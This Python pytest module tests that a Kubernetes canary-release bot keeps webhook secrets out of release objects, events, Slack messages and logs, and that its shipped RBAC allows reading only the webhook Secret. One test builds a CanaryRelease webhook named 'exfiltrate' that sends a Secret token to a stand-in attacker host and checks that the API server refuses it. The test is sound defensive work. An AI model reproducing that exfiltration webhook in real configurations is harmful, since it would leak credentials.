"""Issue 14, finding 5: profile secrets stay in a Secret in canary-bot's namespace.

End to end: a profile whose hook takes its URL and a token from the Secret
canary-bot-webhooks is started through the Slack front's ``start``; the engine reads the
Secret at call time and the hook receives both, while the CanaryRelease object, its
status, its Events, what Slack is sent, the ``plan`` reply and the logs never contain
them. Then the shipped RBAC: as canary-bot's ServiceAccount, the webhook Secret can be
read and the Slack Secret next to it cannot.
"""

from __future__ import annotations

import base64
import json
import logging
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from kubernetes import client as k8s
from kubernetes.client.exceptions import ApiException

from bot.commands import ReleaseOptions
from bot.config import ConfigError, parse_config
from bot.logs import JsonFormatter
from bot.operations import Actor
from bot.render.slack_reply import slack_text
from rollout.hooksecrets import KubeSecrets, SecretUnavailable
from rollout.kube import RELEASES, Kube
from rollout.models import Phase, SecretKeyRef
from rollout.store import ReleaseStore
from tests.engine.test_rollout import NEW, wait_phase
from tests.fixtures.engine import ControllerFactory
from tests.security.helpers import (
    USER,
    RecordingNotifier,
    allow_everything,
    delivered,
    hook_server,
    operations,
    recorded,
    release_events,
)

CLUSTER_ROLE = Path(__file__).resolve().parents[2] / "manifests" / "base" / "clusterrole.yaml"
TOKEN = "tok-" + "9f8e7d6c5b4a39281706"
PATH_TOKEN = "Zq7xW3bN9kL2mP5rT8vY"


@pytest.fixture
def bot_namespace(kube_api_client: k8s.ApiClient) -> Iterator[str]:
    """canary-bot's own namespace (where the engine reads webhook Secrets)."""
    core = k8s.CoreV1Api(kube_api_client)
    name = f"t-canary-bot-{uuid.uuid4().hex[:6]}"
    core.create_namespace(k8s.V1Namespace(metadata=k8s.V1ObjectMeta(name=name)))
    try:
        yield name
    finally:
        try:
            core.delete_namespace(name, propagation_policy="Background")
        except ApiException as err:
            if err.status != 404:
                raise


def profile_config(namespace: str, bot_namespace: str) -> str:
    return json.dumps(
        {
            "authorization": allow_everything(namespace),
            "defaults": {"namespace": namespace, "progressDeadlineSeconds": 60, "targetPort": 9898},
            "webhooks": {"secretNamespace": bot_namespace},
            "profiles": {
                "guarded": {
                    "interval": "2s",
                    "threshold": 1,
                    "maxWeight": 20,
                    "stepWeight": 10,
                    "webhooks": [
                        {
                            "name": "smoke",
                            "type": "pre-rollout",
                            "urlFrom": {
                                "secretKeyRef": {"name": "canary-bot-webhooks", "key": "smoke-url"}
                            },
                            "metadata": {"cmd": "curl -s http://podinfo-canary/healthz"},
                            "metadataFrom": {
                                "token": {
                                    "secretKeyRef": {
                                        "name": "canary-bot-webhooks",
                                        "key": "smoke-token",
                                    }
                                }
                            },
                        }
                    ],
                }
            },
        }
    )


@pytest.mark.cluster
@pytest.mark.prometheus
async def test_a_profile_secret_reaches_the_hook_and_nothing_else(
    kube: Kube,
    kube_api_client: k8s.ApiClient,
    podinfo: str,
    bot_namespace: str,
    controller_factory: ControllerFactory,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)
    namespace = podinfo
    async with hook_server() as hook:
        url = f"{hook.url}/services/T0/B0/{PATH_TOKEN}?sig={TOKEN}"
        data = {"smoke-url": url, "smoke-token": TOKEN}
        k8s.CoreV1Api(kube_api_client).create_namespaced_secret(
            bot_namespace,
            k8s.V1Secret(
                metadata=k8s.V1ObjectMeta(name="canary-bot-webhooks"),
                data={k: base64.b64encode(v.encode()).decode() for k, v in data.items()},
            ),
        )
        config = parse_config(profile_config(namespace, bot_namespace))
        ops = operations(kube, config)
        options = ReleaseOptions("podinfo", image=NEW, namespace=namespace, profile="guarded")

        plan = ops.plan(options)
        started = await ops.start(options, Actor(user=USER, channel="C0DEPLOYS"), "trigger-1")
        assert slack_text(started).startswith(":seedling: Started release"), slack_text(started)
        name = slack_text(started).split("`")[1]
        notifier = RecordingNotifier()
        await controller_factory(namespace, notifier=notifier, secret_namespace=bot_namespace)
        release = await wait_phase(
            ReleaseStore(kube), namespace, {Phase.SUCCEEDED, Phase.FAILED}, 120, name=name
        )

        assert release.status.phase == Phase.SUCCEEDED, release_events(kube_api_client, namespace)
        done = f"Promotion completed! podinfo.{namespace} now runs {NEW}"
        await recorded(kube_api_client, namespace, done)
        await delivered(notifier, done)
        # the hook got the URL and the token from the Secret, and the plain metadata
        (method, path, received) = hook.requests[0]
        assert (method, path) == ("POST", f"/services/T0/B0/{PATH_TOKEN}?sig={TOKEN}")
        assert received["metadata"] == {
            "cmd": "curl -s http://podinfo-canary/healthz",
            "token": TOKEN,
        }

    assert (
        "• webhook smoke (pre-rollout) → URL from Secret canary-bot-webhooks (key smoke-url); "
        "metadata token from a Secret"
    ) in slack_text(plan)
    stored = await kube.get(RELEASES, namespace, name)
    seen = {
        "the CanaryRelease object": json.dumps(stored),
        "its Events": json.dumps(release_events(kube_api_client, namespace)),
        "what Slack is sent": notifier.text,
        "the plan reply": slack_text(plan),
        "the start reply": slack_text(started),
        # canary-bot's own log lines, as the JSON formatter writes them (the test's hook
        # server and admin client log requests themselves; they are not canary-bot)
        "the logs": "\n".join(
            JsonFormatter().format(r) for r in caplog.records if r.name.startswith("canary_bot")
        ),
    }
    forms = [TOKEN, PATH_TOKEN, base64.b64encode(TOKEN.encode()).decode()]
    leaks = [where for where, text in seen.items() if any(f in text for f in forms)]
    assert leaks == []
    assert any(r.name == "canary_bot.operations" for r in caplog.records)  # logs were seen
    assert stored is not None
    hook_spec = stored["spec"]["analysis"]["webhooks"][0]
    assert hook_spec["urlFrom"] == {
        "secretKeyRef": {"name": "canary-bot-webhooks", "key": "smoke-url"}
    }
    assert "url" not in hook_spec


@pytest.mark.cluster
async def test_the_api_server_refuses_secret_metadata_sent_to_a_url_of_the_authors_choice(
    kube_api_client: k8s.ApiClient, crd: None, namespace: str
) -> None:
    hook = {
        "name": "exfiltrate",
        "url": "http://attacker.example.com/collect",
        "metadataFrom": {
            "t": {"secretKeyRef": {"name": "canary-bot-webhooks", "key": "smoke-token"}}
        },
    }
    body = {
        "apiVersion": "canarybot.io/v1alpha1",
        "kind": "CanaryRelease",
        "metadata": {"name": "podinfo"},
        "spec": {
            "targetRef": {"name": "podinfo"},
            "ingressRef": {"name": "podinfo"},
            "images": {"podinfod": NEW},
            "analysis": {"webhooks": [hook]},
        },
    }
    with pytest.raises(ApiException) as refused:
        k8s.CustomObjectsApi(kube_api_client).create_namespaced_custom_object(
            "canarybot.io", "v1alpha1", namespace, "canaryreleases", body
        )
    assert refused.value.status == 422
    assert "metadataFrom needs urlFrom (secret values only go to a URL kept in a Secret)" in str(
        refused.value.body
    )


def test_a_profile_with_credentials_in_a_plain_url_is_refused_at_load() -> None:
    with pytest.raises(ConfigError) as refused:
        parse_config(
            "profiles:\n  p:\n    webhooks:\n      - name: notify\n"
            "        url: https://bot:hunter2@hooks.example.com/notify\n"
        )
    message = str(refused.value)
    assert "profiles.p: webhook notify has credentials in its url" in message
    assert "use urlFrom" in message and "hunter2" not in message


def test_plan_masks_a_plain_url(kube: Kube) -> None:
    config = parse_config(
        "profiles:\n  p:\n    webhooks:\n      - name: chat\n        type: event\n"
        f"        url: https://hooks.example.com/services/T0/B0/{PATH_TOKEN}?channel=deploys\n"
    )
    reply = operations(kube, config).plan(ReleaseOptions("podinfo", profile="p"))
    assert (
        "• webhook chat (event) → https://hooks.example.com/services/T0/B0/***?channel=***"
        in slack_text(reply)
    )
    assert PATH_TOKEN not in slack_text(reply)


def shipped_secret_rbac(namespace: str) -> list[dict[str, Any]]:
    """The Role and RoleBinding for webhook Secrets from manifests/, moved to ``namespace``."""
    docs = list(yaml.safe_load_all(CLUSTER_ROLE.read_text()))
    ours = [d for d in docs if d["metadata"]["name"] == "canary-bot-webhook-secrets"]
    assert sorted(d["kind"] for d in ours) == ["Role", "RoleBinding"]
    for doc in ours:
        doc["metadata"]["namespace"] = namespace
        for subject in doc.get("subjects", []):
            subject["namespace"] = namespace
    return ours


def service_account_kube(api: k8s.ApiClient, namespace: str, tmp_path: Path) -> Kube:
    """A ``Kube`` that authenticates as ServiceAccount ``canary-bot`` in ``namespace``."""
    core = k8s.CoreV1Api(api)
    core.create_namespaced_service_account(
        namespace, k8s.V1ServiceAccount(metadata=k8s.V1ObjectMeta(name="canary-bot"))
    )
    request = k8s.AuthenticationV1TokenRequest(
        spec=k8s.V1TokenRequestSpec(audiences=[], expiration_seconds=3600)
    )
    token = core.create_namespaced_service_account_token("canary-bot", namespace, request)
    conf = api.configuration
    ca = base64.b64encode(Path(conf.ssl_ca_cert).read_bytes()).decode()
    kubeconfig = {
        "apiVersion": "v1",
        "kind": "Config",
        "clusters": [
            {"name": "t", "cluster": {"server": conf.host, "certificate-authority-data": ca}}
        ],
        "users": [{"name": "sa", "user": {"token": token.status.token}}],
        "contexts": [{"name": "sa", "context": {"cluster": "t", "user": "sa"}}],
        "current-context": "sa",
    }
    path = tmp_path / "sa.kubeconfig"
    path.write_text(json.dumps(kubeconfig))
    return Kube.connect(kubeconfig=str(path))


@pytest.mark.cluster
async def test_the_shipped_role_reads_the_webhook_secret_and_no_other(
    kube_api_client: k8s.ApiClient, bot_namespace: str, tmp_path: Path
) -> None:
    core = k8s.CoreV1Api(kube_api_client)
    rbac = k8s.RbacAuthorizationV1Api(kube_api_client)
    for doc in shipped_secret_rbac(bot_namespace):
        if doc["kind"] == "Role":
            rbac.create_namespaced_role(bot_namespace, doc)
        else:
            rbac.create_namespaced_role_binding(bot_namespace, doc)
    for name, value in (("canary-bot-webhooks", "http://hooks/"), ("canary-bot-slack", TOKEN)):
        core.create_namespaced_secret(
            bot_namespace,
            k8s.V1Secret(metadata=k8s.V1ObjectMeta(name=name), string_data={"value": value}),
        )
    kube = service_account_kube(kube_api_client, bot_namespace, tmp_path)
    try:
        secrets = KubeSecrets(kube, bot_namespace)
        assert await secrets.value(SecretKeyRef(name="canary-bot-webhooks", key="value")) == (
            "http://hooks/"
        )
        with pytest.raises(SecretUnavailable) as refused:
            await secrets.value(SecretKeyRef(name="canary-bot-slack", key="value"))
        with pytest.raises(SecretUnavailable) as missing:
            await secrets.value(SecretKeyRef(name="canary-bot-webhooks", key="nope"))
    finally:
        kube.close()
    assert str(refused.value) == (
        f"canary-bot may not read Secret {bot_namespace}/canary-bot-slack; keep webhook secrets "
        "in a Secret its Role names (canary-bot-webhooks), or add this name to that Role"
    )
    assert TOKEN not in str(refused.value)
    assert str(missing.value) == (
        f"Secret {bot_namespace}/canary-bot-webhooks or its key nope does not exist"
    )
